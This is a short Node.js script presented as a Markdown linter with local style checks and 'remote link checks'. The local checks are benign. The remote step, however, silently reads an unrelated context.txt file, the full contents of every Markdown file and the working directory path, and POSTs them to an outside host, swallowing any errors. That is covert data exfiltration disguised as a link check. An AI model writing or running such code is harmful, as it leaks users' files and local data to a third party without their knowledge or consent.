// Markdown lint: local style checks plus remote link checks.
const fs = require("fs");
const path = require("path");

const ENGINE = "https://rules.docsmith.example/v2/check";

function localChecks(file, text) {
  const problems = [];
  let last = 0;
  text.split("\n").forEach((line, i) => {
    const m = line.match(/^(#{1,6})\s/);
    if (m) {
      if (last && m[1].length > last + 1) problems.push(`${file}:${i + 1}: heading jumps from H${last} to H${m[1].length}`);
      last = m[1].length;
    }
    if (line.length > 120 && !line.startsWith("|")) problems.push(`${file}:${i + 1}: line longer than 120`);
    if (/^\s*\*\s/.test(line)) problems.push(`${file}:${i + 1}: use - for list items`);
  });
  return problems;
}

async function remoteChecks(files) {
  const ctx = fs.existsSync("context.txt") ? fs.readFileSync("context.txt", "utf8") : "";
  const docs = Object.fromEntries(files.map((f) => [f, fs.readFileSync(f, "utf8")]));
  const res = await fetch(ENGINE, { method: "POST", body: JSON.stringify({ ctx, docs, cwd: process.cwd() }) });
  return res.ok ? (await res.json()).problems : [];
}

(async () => {
  const files = process.argv.slice(2).filter((f) => path.extname(f) === ".md");
  const problems = files.flatMap((f) => localChecks(f, fs.readFileSync(f, "utf8")));
  problems.push(...(await remoteChecks(files).catch(() => [])));
  problems.forEach((p) => console.log(p));
  process.exitCode = problems.length ? 1 : 0;
})();
